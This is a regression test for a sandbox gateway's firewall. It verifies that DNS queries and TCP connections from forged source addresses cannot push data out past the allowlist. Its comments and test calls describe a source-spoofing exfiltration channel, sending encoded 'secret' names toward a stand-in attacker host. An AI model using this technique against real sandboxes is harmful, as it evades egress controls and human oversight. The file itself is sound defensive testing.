// ATTACK5: a sandbox that forges its source address. The gateway answers whoever a packet claims to come
// from, and the firewall let every reply of an accepted connection out (RELATED,ESTABLISHED came before
// everything else in OUTPUT), whatever the interface: a DNS query to the gateway's resolver sent from a
// forged address made the gateway send its answer — carrying the name the sandbox chose — to that address,
// anywhere (the internet, the LAN, the metadata server), a one-way channel past the allowlist. Now a packet
// of a connection someone opened toward the gateway (conntrack reply direction) leaves on the sandbox's
// interface only (firewall/rules.ts, `out-reply-escape`). Red before the fix: 2 (both forged-source DNS probes).
// Namespaces as in test/topology.test.ts; every address is a documentation or test address inside them.
import t from 'tap';
import { dropTotal, type RunningGateway } from './harness/world.js';
import { closeTopology, dig, forgedDnsQuery, startForgingTopology, GATEWAY, LAN, type Topology } from './harness/topology.js';
import type { Netns } from './harness/netns.js';

/** The attacker's own server on the internet (a documentation address), and a port it listens on. */
const ATTACKER = '203.0.113.99';
const PORT = 40053;

let topo: Topology;
let gw: RunningGateway | undefined;

t.before(async () => {
  ({ topo, gw } = await startForgingTopology(['allowed.test'], [ATTACKER, LAN]));
  await topo.internet.addLoopbackAddress(`${ATTACKER}/32`);
});
t.teardown(() => closeTopology(topo, [gw]));

/** Listen for UDP on ip:port in a namespace; resolves with what arrived (hex) or '' after waitMs. */
function udpListen(ns: Netns, ip: string, port: number, waitMs: number): { ready: Promise<void>; got: Promise<string> } {
  const script = `const s = require('node:dgram').createSocket('udp4');
    s.on('message', (m) => { console.log('got ' + m.toString('latin1').replace(/[^ -~]/g, '.')); process.exit(0); });
    s.bind(${port}, ${JSON.stringify(ip)}, () => console.log('listening'));
    setTimeout(() => { console.log('none'); process.exit(0); }, ${waitMs});`;
  const p = ns.spawn(process.execPath, ['-e', script]);
  const ready = p.waitFor(/listening/, 10_000).then(() => undefined);
  const got = p.waitFor(/^(got .*|none)$/m, waitMs + 10_000).then((line) => (line.startsWith('got ') ? line.slice(4) : ''));
  return { ready, got };
}

const spoofedQuery = (from: string, name: string) => forgedDnsQuery(topo, from, PORT, name);

t.test('held: the resolver still answers the sandbox at its own address', async (t) => {
  t.equal((await dig(topo.sandbox, GATEWAY, 'allowed.test')).status, 'NOERROR');
  t.equal((await dig(topo.sandbox, GATEWAY, 'nope.test')).status, 'NXDOMAIN');
});

for (const [what, target] of [
  ["the attacker's server on the internet", ATTACKER],
  ['a LAN host', LAN],
] as const) {
  t.test(`a DNS query from a forged source: no answer reaches ${what}`, async (t) => {
    const l = udpListen(topo.internet, target, PORT, 2500);
    await l.ready;
    await spoofedQuery(target, 'exfil-c2VjcmV0.nope.test');
    const got = await l.got;
    t.equal(got, '', `the gateway's answer (${JSON.stringify(got)}) never leaves toward ${target}`);
  });
}

t.test('held: the upstream still answers the gateway (replies to its own queries come in on the outside)', async (t) => {
  t.same((await dig(topo.sandbox, GATEWAY, 'allowed.test')).answers.length, 1);
});

// Since attack6 the forged SYN itself is dropped on the way in (in-drop: sources outside the sandbox's
// network), before out-reply-escape would meet its SYN-ACK; either layer is the firewall dropping it.
const DROPS = ['out-reply-escape', 'in-drop'];
t.test('a TCP connection to the proxy from a forged source: its SYN-ACK is dropped, never sent out the other side', async (t) => {
  const before = Object.fromEntries(await Promise.all(DROPS.map(async (r) => [r, await dropTotal(gw!, r)])));
  const script = `const s = require('node:net').connect({ host: ${JSON.stringify(GATEWAY)}, port: 3128, localAddress: ${JSON.stringify(ATTACKER)} });
    s.setTimeout(1500, () => { console.log('timeout'); process.exit(0); });
    s.on('connect', () => { console.log('connected'); process.exit(0); });
    s.on('error', (e) => { console.log(e.code); process.exit(0); });`;
  const r = await topo.sandbox.run(process.execPath, ['-e', script], { reject: false });
  t.equal(String(r.stdout).trim(), 'timeout', 'no handshake completes (the answer would go to the forged address)');
  t.match(
    await gw!.waitForAudit(
      (e) =>
        e.event === 'firewall' &&
        e.action === 'drop' &&
        DROPS.includes(e.rule as string) &&
        e.family === 'ipv4' &&
        (e.total_packets as number) > before[e.rule as string]!,
      8000,
    ),
    { target: 'DROP' },
    'the firewall says it dropped the SYN or its reply',
  );
});
